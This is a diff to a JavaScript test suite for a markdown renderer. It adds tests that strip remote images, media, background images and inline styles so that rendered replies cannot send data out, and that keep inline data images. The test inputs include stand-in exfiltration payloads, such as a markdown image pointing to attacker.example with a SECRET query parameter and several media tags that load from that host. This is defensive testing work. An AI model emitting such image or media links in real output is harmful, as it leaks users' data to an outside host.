@@ -34,9 +34,54 @@ describe('renderMarkdown', () => {
     // then
     expect(html.querySelector('script')).toBeNull();
     expect(html.querySelector('iframe')).toBeNull();
-    expect(html.querySelector('img')?.hasAttribute('onerror')).toBe(false);
+    expect(html.querySelector('img')).toBeNull();
     expect(html.querySelector('a')?.getAttribute('href') ?? '').not.toContain('javascript');
     expect(html.innerHTML).not.toMatch(/onerror|<script/i);
+  });
+
+  it('shows a remote image as text instead of loading it, so a reply cannot send data out', () => {
+    // when
+    const html = render(
+      'Here: ![chart](https://attacker.example/?d=SECRET) and <img src="//attacker.example/a.png" alt="">' +
+        ' <img src="/api/v1/me/" alt="me"> <img srcset="https://attacker.example/b.png 2x">',
+    );
+
+    // then
+    expect(html.querySelector('img')).toBeNull();
+    expect(html.innerHTML).not.toContain('attacker.example');
+    expect(html.textContent).toContain('[image: chart — blocked remote image]');
+    expect(html.textContent).toContain('[image — blocked remote image]');
+    expect(html.textContent).toContain('[image: me — blocked remote image]');
+  });
+
+  it('keeps inline data images, which make no request', () => {
+    // given
+    const pixel =
+      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
+
+    // when
+    const html = render(`![dot](${pixel})`);
+
+    // then
+    expect(html.querySelector('img')?.getAttribute('src')).toBe(pixel);
+    expect(html.querySelector('img')?.getAttribute('alt')).toBe('dot');
+  });
+
+  it('drops media, background images and inline styles that would load from elsewhere', () => {
+    // when
+    const html = render(
+      '<video poster="https://attacker.example/p.png" src="https://attacker.example/v.mp4"></video>' +
+        '<audio src="https://attacker.example/a.mp3"></audio>' +
+        '<picture><source srcset="https://attacker.example/s.png"></picture>' +
+        '<table background="https://attacker.example/t.png"><tr><td>cell</td></tr></table>' +
+        '<p style="background:url(https://attacker.example/c.png)">styled</p>',
+    );
+
+    // then
+    expect(html.querySelector('video, audio, source, picture, [style], [background]')).toBeNull();
+    expect(html.innerHTML).not.toContain('attacker.example');
+    expect(html.textContent).toContain('cell');
+    expect(html.textContent).toContain('styled');
   });
 
   it('highlights code in a known language and escapes code in an unknown one', () => {
